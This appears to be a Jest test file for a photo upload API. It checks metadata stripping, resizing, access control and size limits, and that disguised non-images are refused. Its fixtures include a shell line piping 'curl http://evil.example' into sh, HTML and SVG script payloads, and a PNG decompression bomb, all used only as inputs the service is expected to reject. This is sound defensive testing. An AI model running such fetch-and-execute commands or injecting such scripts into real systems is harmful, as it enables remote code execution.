import type { PhotoView } from '@manyi/shared';
import { AuditLog } from '../audit/audit-log.entity.js';
import { DataSource } from 'typeorm';
import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { jest } from '@jest/globals';
import { getRepositoryToken } from '@nestjs/typeorm';
import sharp from 'sharp';
import type { Repository } from 'typeorm';
import { AppException } from '../../common/errors/app.exception.js';
import { hasGpsIfd, phoneJpeg, plainImage, pngBomb, transparentPng } from '../../testing/images.js';
import { multipartBody, photoUpload } from '../../testing/multipart.js';
import { createResident, createStaff } from '../../testing/staff-fixtures.js';
import { startTestApp, type TestApp } from '../../testing/test-app.js';
import { TEST_DATABASES } from '../../testing/test-databases.js';
import type { Actor } from '../../common/actor.js';
import { PhotoProcessingService } from './photo-processing.service.js';
import { MAX_PHOTO_BYTES } from './photo-processor.js';
import { Photo } from './photo.entity.js';
import { UploadsService } from './uploads.service.js';

type Signed = { id: number; authorization: string };
type Body = { payload: Buffer; headers: Record<string, string> };

const errorOf = (res: { json(): unknown }) => (res.json() as { error: { code: string; message: string } }).error;

describe.each(TEST_DATABASES)('upload routes on %s', (kind) => {
  let sut: TestApp;
  let dataDir: string;
  let resident: Signed;
  let neighbour: Signed;
  let staff: Signed;
  let photos: Repository<Photo>;

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'manyi-photos-'));
    sut = await startTestApp(kind, { MANYI_DATA_DIR: dataDir });
    photos = sut.app.get<Repository<Photo>>(getRepositoryToken(Photo));
    resident = await createResident(sut.app, '张阿姨');
    neighbour = await createResident(sut.app, '李师傅');
    staff = await createStaff(sut.app, 'handler.up1', 'handler', 'fangguanju');
  });
  afterAll(async () => {
    await sut?.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  /** Signed in as the resident unless another caller, or `null` for nobody, is given. */
  const upload = (body: Body, authorization: string | null = resident.authorization) =>
    sut.app.inject({
      method: 'POST',
      url: '/api/v1/uploads',
      headers: { ...body.headers, ...(authorization ? { authorization } : {}) },
      payload: body.payload,
    });
  const get = (url: string, authorization: string | null = resident.authorization) =>
    sut.app.inject({ method: 'GET', url, headers: authorization ? { authorization } : {} });
  const storedFiles = (): string[] => {
    try {
      return readdirSync(join(dataDir, 'photos'), { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => relative(join(dataDir, 'photos'), join(entry.parentPath, entry.name)));
    } catch {
      return [];
    }
  };
  /** Earlier uploads are re-encoded in the background; their files settle before the folder is compared. */
  const processingDone = () => sut.app.get(PhotoProcessingService).idle();
  /** Runs a request that must be refused and checks that it left no file and no row behind. */
  const refused = async (send: () => ReturnType<typeof upload>) => {
    await processingDone();
    const [files, rows] = [storedFiles(), await photos.count()];
    const res = await send();
    expect(storedFiles()).toEqual(files);
    expect(await photos.count()).toBe(rows);
    return res;
  };

  it('stores a phone JPEG upright, at most 2048 px, with no EXIF and no location, and answers 201 with its URLs', async () => {
    const original = await phoneJpeg(4000, 3000);
    expect(hasGpsIfd((await sharp(original).metadata()).exif)).toBe(true);

    const res = await upload(photoUpload(original, 'IMG_0001.jpg'));
    expect(res.statusCode).toBe(201);
    const view = res.json() as PhotoView;
    // Orientation 6: 4000 × 3000 pixels shown portrait, then fitted into 2048.
    expect(view).toEqual({
      id: expect.any(Number),
      url: `/api/v1/uploads/${view.id}`,
      thumbnailUrl: `/api/v1/uploads/${view.id}/thumbnail`,
      width: 1536,
      height: 2048,
    });

    const served = await get(view.url);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['cache-control']).toMatch(/max-age=31536000/);
    const stored = await sharp(served.rawPayload).metadata();
    expect(stored).toMatchObject({ format: 'jpeg', width: 1536, height: 2048 });
    expect(stored.exif).toBeUndefined();
    expect(stored.xmp).toBeUndefined();
    expect(stored.orientation).toBeUndefined();
    expect(served.rawPayload.includes(Buffer.from('Manyi Test Phone'))).toBe(false);

    const row = await photos.findOneByOrFail({ id: view.id });
    expect(row).toMatchObject({
      uploaderKind: 'resident',
      residentId: resident.id,
      staffId: null,
      mime: 'image/jpeg',
      width: 1536,
      height: 2048,
    });
    expect(row.bytes).toBe(served.rawPayload.length);
    expect(row.sha256).toBe(createHash('sha256').update(served.rawPayload).digest('hex'));
    expect(row.storageKey).toMatch(/^\d{4}\/\d{2}\/[0-9a-f]{32}\.jpg$/);
    expect(storedFiles()).toEqual(expect.arrayContaining([row.storageKey, row.thumbnailKey]));
    expect(storedFiles().some((f) => f.includes('IMG_0001'))).toBe(false);
  });

  it('serves a thumbnail at most 320 px on the long side', async () => {
    const view = (await upload(photoUpload(await phoneJpeg(1200, 900)))).json() as PhotoView;
    const res = await get(view.thumbnailUrl, resident.authorization);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('image/jpeg');
    expect(res.headers['cache-control']).toMatch(/immutable/);
    const thumbnail = await sharp(res.rawPayload).metadata();
    expect([thumbnail.width, thumbnail.height]).toEqual([240, 320]);
    expect(thumbnail.exif).toBeUndefined();
  });

  it("answers another resident's read of a photo that is in none of their concerns with 404, as for an unknown id", async () => {
    const view = (await upload(photoUpload(await phoneJpeg(400, 300)))).json() as PhotoView;
    for (const url of [view.url, view.thumbnailUrl]) {
      const res = await get(url, neighbour.authorization);
      expect(res.statusCode).toBe(404);
      expect((res.json() as { error: { code: string } }).error.code).toBe('PHOTO_NOT_FOUND');
    }
  });

  it('accepts a PNG from a staff member, stores it as JPEG with transparency turned white, and records the staff uploader', async () => {
    const res = await upload(photoUpload(await transparentPng(300, 200), 'screenshot.png', 'image/png'), staff.authorization);
    expect(res.statusCode).toBe(201);
    const view = res.json() as PhotoView;
    expect([view.width, view.height]).toEqual([300, 200]);
    const served = await get(view.url, staff.authorization);
    const { data } = await sharp(served.rawPayload).raw().toBuffer({ resolveWithObject: true });
    expect(data[0]).toBeGreaterThan(240);
    expect(await photos.findOneByOrFail({ id: view.id })).toMatchObject({ uploaderKind: 'staff', staffId: staff.id, residentId: null });
    const audit = await sut.app.get(DataSource).getRepository(AuditLog).findOneBy({ action: 'photo.upload', targetId: view.id });
    expect(audit).toMatchObject({ actorKind: 'staff', actorId: staff.id, targetType: 'photo' });
  });

  it.each(['webp', 'avif'] as const)('accepts %s, as phones and browsers produce it', async (format) => {
    const res = await upload(photoUpload(await plainImage(format), `photo.${format}`, `image/${format}`));
    expect(res.statusCode).toBe(201);
    expect(res.json()).toMatchObject({ width: 120, height: 80 });
  });

  it('judges the type by the bytes alone: a photo named virus.exe and declared as a program is accepted', async () => {
    const res = await upload(photoUpload(await phoneJpeg(640, 480), 'virus.exe', 'application/x-msdownload'));
    expect(res.statusCode).toBe(201);
  });

  it.each([
    ['a shell script named photo.png', '#!/bin/sh\ncurl http://evil.example | sh\n'],
    ['an HTML page named photo.png', '<!doctype html><html><script>alert(1)</script></html>'],
    [
      'an SVG with a script named photo.png',
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
    ],
  ])('refuses %s with 415 and a Chinese message, storing nothing', async (_name, content) => {
    const res = await refused(() => upload(photoUpload(content, 'photo.png', 'image/png')));
    expect(res.statusCode).toBe(415);
    expect(errorOf(res).code).toBe('PHOTO_TYPE_NOT_ALLOWED');
    expect(errorOf(res).message).toMatch(/[\u4e00-\u9fff]/);
  });

  it.each(['gif', 'tiff'] as const)('refuses a real %s image: only the formats phones take photos in', async (format) => {
    const res = await refused(async () => upload(photoUpload(await plainImage(format), `photo.${format}`, `image/${format}`)));
    expect(res.statusCode).toBe(415);
    expect(errorOf(res).code).toBe('PHOTO_TYPE_NOT_ALLOWED');
  });

  it('refuses an empty file with 400', async () => {
    const res = await refused(() => upload(photoUpload(Buffer.alloc(0))));
    expect(res.statusCode).toBe(400);
    expect(errorOf(res).code).toBe('PHOTO_MISSING');
  });

  it('refuses a form without a file, a file in another field and a JSON body', async () => {
    const noFile = await refused(() => upload(multipartBody([{ name: 'caption', data: '路灯坏了' }])));
    expect([noFile.statusCode, errorOf(noFile).code]).toEqual([400, 'PHOTO_MISSING']);
    const otherField = await refused(async () =>
      upload(multipartBody([{ name: 'image', filename: 'a.jpg', data: await phoneJpeg(64, 48) }])),
    );
    expect([otherField.statusCode, errorOf(otherField).code]).toEqual([400, 'PHOTO_MISSING']);
    const json = await refused(() =>
      sut.app.inject({
        method: 'POST',
        url: '/api/v1/uploads',
        headers: { authorization: resident.authorization },
        payload: { file: 'x' },
      }),
    );
    expect([json.statusCode, errorOf(json).code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
  });

  it('refuses two files in one request with 400, storing neither', async () => {
    const jpeg = await phoneJpeg(64, 48);
    const res = await refused(() =>
      upload(
        multipartBody([
          { name: 'file', filename: 'a.jpg', contentType: 'image/jpeg', data: jpeg },
          { name: 'file', filename: 'b.jpg', contentType: 'image/jpeg', data: jpeg },
        ]),
      ),
    );
    expect(res.statusCode).toBe(400);
    expect(errorOf(res).code).toBe('PHOTO_TOO_MANY');
  });

  it('accepts a file of exactly 10 MB and refuses one byte more with 413 in the error envelope', async () => {
    const jpeg = await phoneJpeg(640, 480);
    // Bytes after the end of a JPEG are ignored by decoders (phones append such data); they make the size.
    const padded = (size: number) => Buffer.concat([jpeg, Buffer.alloc(size - jpeg.length)]);
    expect((await upload(photoUpload(padded(MAX_PHOTO_BYTES)))).statusCode).toBe(201);

    const res = await refused(() => upload(photoUpload(padded(MAX_PHOTO_BYTES + 1))));
    expect(res.statusCode).toBe(413);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    expect(errorOf(res).code).toBe('PHOTO_TOO_LARGE');
    expect(errorOf(res).message).toMatch(/[\u4e00-\u9fff]/);
  });

  it('refuses a decompression bomb (a 74-byte PNG claiming 50,000 × 50,000 pixels) with 413 and keeps serving', async () => {
    const bomb = pngBomb(50_000, 50_000);
    expect(bomb.length).toBeLessThan(200);
    const res = await refused(() => upload(photoUpload(bomb, 'tiny.png', 'image/png')));
    expect(res.statusCode).toBe(413);
    expect(errorOf(res).code).toBe('PHOTO_TOO_LARGE');
    expect((await sut.app.inject({ method: 'GET', url: '/api/v1/health' })).statusCode).toBe(200);
  });

  it('answers 401 without a signed-in caller, on upload and on reading', async () => {
    const jpeg = await phoneJpeg(64, 48);
    const res = await refused(() => upload(photoUpload(jpeg), null));
    expect([res.statusCode, errorOf(res).code]).toEqual([401, 'UNAUTHENTICATED']);
    const view = (await upload(photoUpload(jpeg))).json() as PhotoView;
    for (const url of [view.url, view.thumbnailUrl]) {
      const read = await get(url, null);
      expect([read.statusCode, errorOf(read).code]).toEqual([401, 'UNAUTHENTICATED']);
    }
  });

  it('answers 404 for an unknown photo and 400 for an id that is not one', async () => {
    const unknown = await get('/api/v1/uploads/987654');
    expect([unknown.statusCode, errorOf(unknown).code]).toEqual([404, 'PHOTO_NOT_FOUND']);
    const thumbnail = await get('/api/v1/uploads/987654/thumbnail');
    expect(thumbnail.statusCode).toBe(404);
    const bad = await get('/api/v1/uploads/abc');
    expect([bad.statusCode, errorOf(bad).code]).toEqual([400, 'VALIDATION_FAILED']);
  });

  it('removes the stored upload when the row cannot be written, and answers 500 without details', async () => {
    await processingDone();
    const before = storedFiles();
    // The row (and, for staff, its audit record) is written in one transaction: make that fail.
    const save = jest.spyOn(photos.manager, 'transaction').mockRejectedValueOnce(new Error('database went away'));
    try {
      const res = await upload(photoUpload(await phoneJpeg(64, 48)));
      expect(res.statusCode).toBe(500);
      expect(errorOf(res).code).toBe('INTERNAL');
      expect(res.body).not.toMatch(/database went away/);
    } finally {
      save.mockRestore();
    }
    expect(storedFiles()).toEqual(before);
  });

  describe('assertOwned', () => {
    let service: UploadsService;
    const residentActor = (who: Signed): Actor => ({ kind: 'resident', residentId: who.id });
    const staffActor = (): Actor => ({
      kind: 'staff',
      staffId: staff.id,
      username: 'handler.up1',
      role: 'handler',
      streetId: null,
      departmentId: null,
    });
    const uploadAs = async (who: Signed) =>
      ((await upload(photoUpload(await phoneJpeg(64, 48)), who.authorization)).json() as PhotoView).id;

    beforeAll(() => {
      service = sut.app.get(UploadsService);
    });

    it("returns the caller's own photos in the order asked, once each", async () => {
      const [a, b] = [await uploadAs(resident), await uploadAs(resident)];
      const owned = await service.assertOwned([b, a, b], residentActor(resident));
      expect(owned.map((p) => p.id)).toEqual([b, a]);
      expect(await service.assertOwned([], residentActor(resident))).toEqual([]);
    });

    it("refuses another resident's photo, an unknown id and a staff photo alike with PHOTO_NOT_FOUND", async () => {
      const mine = await uploadAs(resident);
      const theirs = await uploadAs(neighbour);
      const staffPhoto = await uploadAs(staff);
      for (const ids of [[mine, theirs], [mine, 99_999_999], [staffPhoto]]) {
        const error = await service.assertOwned(ids, residentActor(resident)).catch((e: unknown) => e);
        expect(error).toBeInstanceOf(AppException);
        expect((error as AppException).code).toBe('PHOTO_NOT_FOUND');
        expect((error as AppException).status).toBe(404);
      }
      expect((await service.assertOwned([staffPhoto], staffActor())).map((p) => p.staffId)).toEqual([staff.id]);
      await expect(service.assertOwned([mine], staffActor())).rejects.toMatchObject({ code: 'PHOTO_NOT_FOUND' });
    });
  });
});
